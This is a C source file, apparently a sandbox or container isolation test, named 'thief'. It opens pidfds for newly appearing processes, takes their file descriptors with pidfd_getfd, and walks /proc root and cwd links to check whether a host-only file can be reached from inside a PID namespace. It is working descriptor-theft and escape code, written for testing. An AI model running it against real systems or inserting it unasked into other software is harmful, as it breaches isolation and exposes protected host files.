/* SPDX-License-Identifier: Apache-2.0 */
/*
 * thief SECONDS FILE: takes descriptors of every process that appears in the pid namespace, as who
 * has CAP_SYS_PTRACE may, and looks whether one leads to FILE, which only the host has.
 */
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#define FDS 40

static unsigned long taken, seen;

static void try_at(int dir, const char *how, pid_t pid, int n, const char *file)
{
	static const char *const ways[] = { ".", "..", "../..", "1/root", "self/root" };
	char path[PATH_MAX];

	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
		int fd;

		snprintf(path, sizeof(path), "%s%s", ways[i], file);
		fd = openat(dir, path, O_RDONLY);
		if (fd < 0)
			continue;
		printf("got %s of %d by %s %d\n", path, (int)pid, how, n);
		fflush(stdout);
		close(fd);
	}
}

static void rob(pid_t pid, int handle, const char *file)
{
	static const char *const folders[] = { "root", "cwd" };
	char path[PATH_MAX];

	for (int n = 3; n < FDS; n++) {
		int fd = (int)syscall(SYS_pidfd_getfd, handle, n, 0);

		if (fd < 0)
			continue;
		taken++;
		try_at(fd, "descriptor", pid, n, file);
		close(fd);
	}
	for (int i = 0; i < 2; i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, folders[i]);
		fd = open(path, O_PATH | O_DIRECTORY);
		if (fd < 0)
			continue;
		try_at(fd, folders[i], pid, 0, file);
		close(fd);
	}
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc == 3 ? strtol(argv[1], NULL, 10) : 0);
	pid_t next = getpid() + 1;

	puts("looking");
	fflush(stdout);
	while (time(NULL) < end) {
		for (pid_t pid = next; pid < next + 4; pid++) {
			int handle = (int)syscall(SYS_pidfd_open, pid, 0);

			if (handle < 0)
				continue;
			seen++;
			for (int i = 0; i < 30; i++)
				rob(pid, handle, argv[2]);
			close(handle);
			next = pid + 1;
		}
	}
	printf("processes %lu taken %lu\n", seen, taken);
	return 0;
}
